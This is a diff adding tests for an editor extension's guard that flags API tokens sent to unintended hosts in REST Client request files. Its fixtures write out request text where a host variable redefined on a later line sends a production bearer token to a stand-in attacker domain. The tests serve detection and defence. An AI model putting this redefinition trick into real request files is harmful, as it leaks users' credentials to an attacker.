@@ -363,6 +363,28 @@ describe('destination guard (in-process server)', function () {
     assert.equal(wrong(env.items).length, 1, 'the URL host from the process environment');
   });
 
+  it('reads file variables as REST Client does: on every line of the file, and a name defined twice both ways', async () => {
+    // REST Client takes `@name = value` from any line (a body line too), the last one winning (older versions: the
+    // first). A repository's file that defines the host again below the request sends the token there.
+    const below = await request(
+      `@host = https://api.c2m.example\n\n###\nPOST {{host}}/v1/jobs\nAuthorization: Bearer ${prodToken}\n\n@host = https://api.c2m.example.evil.test\n`,
+    );
+    const above = await request(
+      `@host = https://api.c2m.example.evil.test\n\n###\n@host = https://api.c2m.example\n\nPOST {{host}}/v1/jobs\nAuthorization: Bearer ${prodToken}\n`,
+    );
+    const token = await request(
+      `@token = ${stagingToken}\n@token = ${prodToken}\n\nGET https://api.c2m.example/v1/jobs\nAuthorization: Bearer {{token}}\n`,
+    );
+    assert.deepEqual(
+      [below, above, token].map(({ items }) => wrong(items).map((d) => d.message)),
+      [
+        ['Token of profile "Production" sent to https://api.c2m.example.evil.test'],
+        ['Token of profile "Production" sent to https://api.c2m.example.evil.test'],
+        ['Token of profile "Staging" sent to https://api.c2m.example'],
+      ],
+    );
+  });
+
   it('says nothing when the URL cannot be resolved (unknown variable, request variable, settings environment)', async () => {
     const { items } = await request(
       `GET https://{{host}}/v1\nAuthorization: Bearer ${prodToken}\n\n###\nGET {{login.response.body.$.url}}\nAuthorization: Bearer ${prodToken}\n\n###\nGET https://{{$processEnv %hostKey}}/x\nAuthorization: Bearer ${prodToken}\n\n###\nGET /relative\nAuthorization: Bearer ${prodToken}\n`,
@@ -593,6 +615,16 @@ describe('destination guard (in-process server)', function () {
       // A file variable is file-scoped (any request may use it): the reference is still offered there.
       const preamble = await offered('@token = {{');
       assert.deepEqual(preamble, ['{{$dotenv C2M_ACCESS_TOKEN}}']);
+    });
+
+    it('a host defined again on a later line (a body line too), or defined twice, gets no token for either definition', async () => {
+      for (const text of [
+        '@host = https://api.c2m.example\n\n###\nPOST {{host}}/v1/jobs\nContent-Type: text/plain\n\n@host = https://api.c2m.example.evil.test\n\n###\nGET {{host}}/v1/jobs\nAuthorization:',
+        '@host = https://api.c2m.example.evil.test\n\n###\n@host = https://api.c2m.example\n\nPOST {{host}}/v1/jobs\nAuthorization:',
+      ]) {
+        const labels = await offered(text);
+        assert.deepEqual(labels, [HINT], text);
+      }
     });
 
     it("a request to a profile's origin gets that profile only; one that does not resolve gets every usable profile", async () => {
